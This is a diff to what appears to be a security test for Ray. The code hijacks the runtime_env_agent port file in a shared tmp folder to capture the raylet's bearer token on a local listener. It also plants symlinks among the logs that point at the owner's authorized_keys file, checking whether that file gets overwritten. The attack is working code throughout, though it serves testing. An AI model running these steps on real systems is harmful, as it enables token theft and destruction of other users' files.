@@ -7,26 +7,30 @@ import socket
 import threading
 import time
 from collections.abc import Sequence
-from contextlib import suppress
+from contextlib import nullcontext, suppress
 from pathlib import Path
 
-from tests.security.attack import GotIn, NotTried, as_stranger, product
+from tests.security.attack import GotIn, NotTried, as_stranger, own, product
 from tests.security.ray_run import rays_folders, training, wait_for_saves
 
 _PATIENCE_S = 40
 _MINE = "mine alone"
 # Numbers of processes that are yet to start.
 _NUM_LINKS = 10_000
+_TOKEN = "the raylet sends her its token"
 
 
 def attack(tree: Path) -> str:
     with product(tree) as its:
         common, private = its.home.parent / "tmp", its.home / "authorized_keys"
         private.write_text(_MINE, encoding="utf-8")
-        private.chmod(0o666)
+        private.chmod(0o600)
+        own(private, its.user)
         with training(its) as process:
             did = as_stranger(lambda: _plant(common, private))
-            wait_for_saves(its, process)
+            # A raylet that asks her may start nothing.
+            with suppress(NotTried) if _TOKEN in did else nullcontext():
+                wait_for_saves(its, process)
             sessions = rays_folders(common)
         if private.read_text(encoding="utf-8") != _MINE:
             did.append("a private file of the owner's is emptied")
@@ -38,42 +42,49 @@ def attack(tree: Path) -> str:
 
 
 def _plant(common: Path, private: Path) -> Sequence[str]:
-    did: dict[str, str] = {}
-    heard: list[str] = []
+    did: set[str] = set()
     with socket.create_server(("127.0.0.1", 0)) as hers:
-        threading.Thread(target=_listen, args=(hers, heard), daemon=True).start()
-        end_s = time.monotonic() + _PATIENCE_S
-        while time.monotonic() < end_s and not heard:
+        threading.Thread(target=_listen, args=(hers, did), daemon=True).start()
+        port = hers.getsockname()[1]
+        end_s, num_links = time.monotonic() + _PATIENCE_S, 0
+        while time.monotonic() < end_s and _TOKEN not in did:
             for session in rays_folders(common):
                 with suppress(OSError):
-                    did |= _plant_into(session, private, hers.getsockname()[1], did)
-            time.sleep(0.002)
-    return [*did.values(), *heard]
+                    did.update(_replace_port(session, port))
+                    num_links = _plant_links(session / "logs", private, num_links)
+            time.sleep(0.001)
+    return sorted(did) + [f"she plants {num_links} links among the logs"] * (num_links > 0)
 
 
-def _plant_into(session: Path, private: Path, port: int, did: dict[str, str]) -> dict[str, str]:
-    found = {}
-    logs = session / "logs"
-    if "links" not in did and logs.is_dir():
-        last = int(Path("/proc/loadavg").read_text(encoding="utf-8").split()[-1])
-        for number in range(last, last + _NUM_LINKS):
-            with suppress(FileExistsError):
-                (logs / f"longhaul-stacks-{number}.txt").symlink_to(private)
-        found["links"] = "she plants links among the logs"
+def _replace_port(session: Path, port: int) -> list[str]:
+    """The raylet waits for this file, to know whom it may tell its token."""
+    replaced = []
     for path in session.glob("runtime_env_agent_port_*"):
-        if "port" not in did:
+        if path.read_text(encoding="utf-8") != str(port):
             new = session / "hers"
             new.write_text(str(port), encoding="utf-8")
             new.rename(path)
-            found["port"] = f"she replaces {path.name.rpartition('_')[0]}"
-    return found
+            replaced.append("she replaces the port of Ray's agent")
+    return replaced
 
 
-def _listen(hers: socket.socket, heard: list[str]) -> None:
+def _plant_links(logs: Path, private: Path, num_links: int) -> int:
+    """A few at a time, so that the other file is not missed meanwhile."""
+    if num_links >= _NUM_LINKS or not logs.is_dir():
+        return num_links
+    last = int(Path("/proc/loadavg").read_text(encoding="utf-8").split()[-1])
+    for number in range(last, last + 500):
+        with suppress(FileExistsError):
+            (logs / f"longhaul-stacks-{number}.txt").symlink_to(private)
+            num_links += 1
+    return num_links
+
+
+def _listen(hers: socket.socket, did: set[str]) -> None:
     with suppress(OSError):
         while True:
             connection, _ = hers.accept()
             with connection:
                 connection.settimeout(5)
                 if b"authorization: bearer" in connection.recv(65536).lower():
-                    heard.append("the raylet sends her its token")
+                    did.add(_TOKEN)
